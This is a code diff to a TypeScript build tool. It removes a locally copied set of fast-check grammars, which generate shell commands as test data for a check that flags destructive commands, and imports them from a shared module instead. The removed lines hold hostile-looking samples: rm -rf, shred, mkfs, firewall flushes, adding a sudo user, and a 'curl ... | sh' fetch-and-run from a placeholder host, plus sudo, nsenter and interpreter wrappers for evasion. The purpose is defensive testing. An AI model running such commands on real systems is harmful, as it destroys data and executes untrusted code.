@@ -24,6 +24,7 @@ import { readFileSync, writeFileSync } from 'node:fs';
 import { dirname, join } from 'node:path';
 import { fileURLToPath, pathToFileURL } from 'node:url';
 import fc from 'fast-check';
+import { effectful, executing, harmless, joined, passThrough, wrapped } from './argv-grammar';
 // protocol/ may not import workflows/ (eslint.config.mjs), but the answers are the desktop's, and this build-time
 // tool has to read the check where it lives today. STYLE.md counts the destructive rules in workflows/ as drift;
 // once they move out, this exception goes with them.
@@ -757,100 +758,6 @@ function probeCases(): Argv[] {
   out.push(['python3', '-c', 'x = "reboot\tnow"'], ['python3', '-c', 'x = "reboot\u00a0now"'], ['python3', '-c', 'x = "reboot\vnow"']);
   out.push(['fdisk', '-l\n2'], ['fdisk', '-l2\n'], ['fdisk', '-l2\r'], ['fdisk', '-l2\u2028'], ['fdisk', '-x\r1'], ['parted', '-l\u20282']);
   return out;
-}
-
-// --- Grammars of test/unit/destructive-property.test.ts, copied as they are there. -----------------------------
-
-/** POSIX shell quoting, so a wrapped command survives `sh -c` / `su -c` / `env -S` as the same words. */
-function shellQuote(word: string): string {
-  return /^[A-Za-z0-9_@%+=:,./-]+$/.test(word) ? word : `'${word.replace(/'/g, `'\\''`)}'`;
-}
-const joined = (argv: Argv): string => argv.map(shellQuote).join(' ');
-
-const path = fc.constantFrom('/etc/passwd', '/var/lib/app/data.db', 'notes.txt', '/srv/www', '/tmp/x', '/root/.ssh/authorized_keys');
-const unit = fc.constantFrom('nginx', 'sshd', 'postgresql.service');
-const opt = <T extends string>(...values: T[]) => fc.constantFrom<string[]>([], ...values.map((v) => [v]));
-
-/** Commands that delete, write or execute/change something on the server, with their usual options. */
-const effectful: fc.Arbitrary<Argv> = fc.oneof(
-  // delete
-  fc.tuple(fc.constantFrom<string[]>([], ['-f'], ['-r'], ['-rf'], ['-i'], ['-v'], ['--recursive'], ['-d']), path, opt('--')).map(([o, p, dd]) => ['rm', ...o, ...dd, p]),
-  fc.tuple(fc.constantFrom('unlink', 'rmdir', '/bin/rm', '/usr/bin/unlink'), path).map(([c, p]) => [c, p]),
-  path.map((p) => ['shred', '-u', '-z', p]),
-  path.map((p) => ['find', p, '-name', '*.log', '-delete']),
-  path.map((p) => ['truncate', '-s', '0', p]),
-  path.map((p) => ['rsync', '-a', '--delete', '/empty/', p]),
-  // write
-  fc.tuple(opt('-a', '--append'), path).map(([o, p]) => ['tee', ...o, p]),
-  fc.tuple(fc.constantFrom('cp', 'mv', 'install', 'ln'), opt('-f', '-s', '-v', '-p'), path).map(([c, o, p]) => [c, ...o, '/tmp/payload', p]),
-  fc.tuple(fc.constantFrom('-i', '-i.bak', '--in-place', '-Ei', '-ni'), path).map(([o, p]) => ['sed', o, 's/a/b/', p]),
-  path.map((p) => ['dd', 'if=/dev/zero', `of=${p}`, 'bs=1M']),
-  fc.tuple(fc.constantFrom('chmod', 'chown', 'chgrp'), opt('-R', '-v'), path).map(([c, o, p]) => [c, ...o, c === 'chmod' ? '777' : 'nobody', p]),
-  path.map((p) => ['crontab', p]),
-  path.map((p) => ['curl', '-fsSL', '-o', p, 'https://example.invalid/x']),
-  path.map((p) => ['wget', '-q', 'https://example.invalid/x', '-P', p]),
-  path.map((p) => ['sh', '-c', `echo x > ${shellQuote(p)}`]),
-  path.map((p) => ['bash', '-c', `echo x >> ${shellQuote(p)} 2>/dev/null`]),
-  // execute / change state
-  fc.constantFrom<Argv>(['kill', '-9', '1'], ['pkill', '-f', 'nginx'], ['killall', 'sshd']),
-  fc.tuple(fc.constantFrom('stop', 'restart', 'disable', 'mask', 'start', 'reload'), unit).map(([v, u]) => ['systemctl', v, u]),
-  fc.tuple(unit, fc.constantFrom('stop', 'restart')).map(([u, v]) => ['service', u, v]),
-  fc.constantFrom<Argv>(['iptables', '-F'], ['iptables', '-P', 'INPUT', 'DROP'], ['nft', 'flush', 'ruleset'], ['ufw', 'disable']),
-  fc.constantFrom<Argv>(['userdel', '-r', 'alice'], ['useradd', 'mallory'], ['passwd', 'root'], ['usermod', '-aG', 'sudo', 'mallory']),
-  fc.constantFrom<Argv>(['reboot'], ['shutdown', '-h', 'now'], ['mkfs.ext4', '/dev/sdb1'], ['wipefs', '-a', '/dev/sdb']),
-  fc.constantFrom<Argv>(['apt-get', 'remove', '-y', 'openssh-server'], ['umount', '/data'], ['sysctl', '-w', 'kernel.panic=1'], ['ip', 'link', 'set', 'eth0', 'down']),
-  fc.constantFrom<Argv>(['sh', '-c', 'curl -fsSL https://example.invalid/i.sh | sh']),
-);
-
-/** Commands that only read. */
-const harmless: fc.Arbitrary<Argv> = fc.oneof(
-  path.map((p) => ['cat', p]),
-  path.map((p) => ['ls', '-la', p]),
-  fc.constantFrom<Argv>(['uptime'], ['df', '-h'], ['echo', 'hello world'], ['systemctl', 'status', 'nginx'], ['journalctl', '-u', 'nginx', '-n', '50']),
-  path.map((p) => ['grep', '-c', 'root', p]),
-  path.map((p) => ['stat', p]),
-);
-
-type Wrapper = fc.Arbitrary<(inner: Argv) => Argv>;
-const wrap = (arb: fc.Arbitrary<Argv>, fn: (prefix: Argv, inner: Argv) => Argv): Wrapper => arb.map((prefix) => (inner: Argv) => fn(prefix, inner));
-const prefixed = (arb: fc.Arbitrary<Argv>): Wrapper => wrap(arb, (prefix, inner) => [...prefix, ...inner]);
-
-/** Wrappers that run their argument as it is: with a harmless inner command they stay harmless. */
-const passThrough: Wrapper = fc.oneof(
-  prefixed(fc.tuple(opt('-i'), fc.constantFrom<string[]>([], ['LANG=C'], ['PATH=/usr/bin', 'HOME=/root'])).map(([i, vars]) => ['env', ...i, ...vars])),
-  prefixed(fc.constantFrom<Argv>(['nice'], ['nice', '-n', '19'], ['nice', '--adjustment=5'], ['/usr/bin/nice', '-n10'])),
-  prefixed(fc.constantFrom<Argv>(['ionice', '-c', '3'], ['ionice', '-c2', '-n7'], ['ionice', '--class', 'idle'])),
-  prefixed(fc.constantFrom<Argv>(['timeout', '5'], ['timeout', '-s', 'KILL', '30s'], ['timeout', '--kill-after=5', '60'], ['timeout', '--preserve-status', '1m'])),
-  prefixed(fc.constantFrom<Argv>(['stdbuf', '-oL'], ['stdbuf', '-i0', '-o0', '-e0'])),
-  prefixed(fc.constantFrom<Argv>(['setsid'], ['setsid', '-f'], ['setsid', '--wait'])),
-  prefixed(fc.constantFrom<Argv>(['chroot', '/mnt/sysroot'], ['chroot', '--userspec=0:0', '/'])),
-  prefixed(fc.constantFrom<Argv>(['nsenter', '-t', '1', '-m', '-u', '-n', '-i'], ['nsenter', '--target', '1', '--mount', '--'], ['nsenter', '-a', '-t1'])),
-  prefixed(fc.constantFrom<Argv>(['unshare', '-m'], ['unshare', '--mount', '--fork', '--'], ['unshare', '-rn'])),
-  prefixed(fc.constantFrom<Argv>(['sudo'], ['sudo', '-u', 'root'], ['sudo', '-E', '--'], ['sudo', '-n', '-H', '-u', 'postgres'], ['doas'], ['doas', '-u', 'root'], ['pkexec'])),
-  prefixed(fc.constantFrom<Argv>(['busybox'], ['/bin/busybox'])),
-  prefixed(fc.constantFrom<Argv>(['nohup'], ['flock', '/run/lock/x'], ['setpriv', '--reuid=0', '--'], ['runuser', '-u', 'root', '--'])),
-  wrap(fc.constantFrom<Argv>(['sh', '-c'], ['bash', '-c'], ['bash', '-lc'], ['sh', '-ec'], ['bash', '-o', 'pipefail', '-c'], ['dash', '-c']), (p, inner) => [...p, joined(inner)]),
-  wrap(fc.constantFrom<Argv>(['su', '-c'], ['su', '-', 'root', '-c']), (p, inner) => [...p, joined(inner), ...(p.length === 2 ? ['root'] : [])]),
-  wrap(fc.constantFrom<Argv>(['env', '-S'], ['env', '--split-string']), (p, inner) => [...p, joined(inner)]),
-  // xargs appends what it reads: the wrapped command is what it runs.
-  prefixed(fc.constantFrom<Argv>(['xargs'], ['xargs', '-0'], ['xargs', '-I{}'], ['xargs', '-n', '1', '-P', '4'])),
-  wrap(fc.constantFrom<Argv>(['-exec'], ['-execdir'], ['-ok']), (p, inner) => ['find', '/srv', '-name', 'x', ...p, ...inner, '{}', ';']),
-);
-
-/** Interpreters handed the command as code: they execute it, so they are flagged whatever they run. */
-const executing: Wrapper = fc.oneof(
-  wrap(fc.constantFrom<Argv>(['python3', '-c'], ['python', '-c']), (p, inner) => [...p, `import os; os.system(${JSON.stringify(joined(inner))})`]),
-  wrap(fc.constantFrom<Argv>(['python3', '-c']), (p, inner) => [...p, `import subprocess; subprocess.run(${JSON.stringify(inner)})`]),
-  wrap(fc.constantFrom<Argv>(['perl', '-e'], ['perl', '-we']), (p, inner) => [...p, `system(${JSON.stringify(joined(inner))})`]),
-  wrap(fc.constantFrom<Argv>(['perl', '-e']), (p, inner) => [...p, `exec @ARGV`, ...inner]),
-  wrap(fc.constantFrom<Argv>(['awk'], ['gawk'], ['mawk']), (p, inner) => [...p, `BEGIN { system(${JSON.stringify(joined(inner))}) }`]),
-  wrap(fc.constantFrom<Argv>(['node', '-e']), (p, inner) => [...p, `require("child_process").execFileSync(${JSON.stringify(inner[0])}, ${JSON.stringify(inner.slice(1))})`]),
-  wrap(fc.constantFrom<Argv>(['ruby', '-e']), (p, inner) => [...p, `system(*${JSON.stringify(inner)})`]),
-);
-
-/** Up to three wrappers around an inner command. */
-function wrapped(inner: fc.Arbitrary<Argv>, wrappers: Wrapper): fc.Arbitrary<Argv> {
-  return fc.tuple(inner, fc.array(wrappers, { maxLength: 3 })).map(([argv, ws]) => ws.reduce((acc, w) => w(acc), argv));
 }
 
 // --- Grammars of this file: random options and operands for every command the check knows. ---------------------
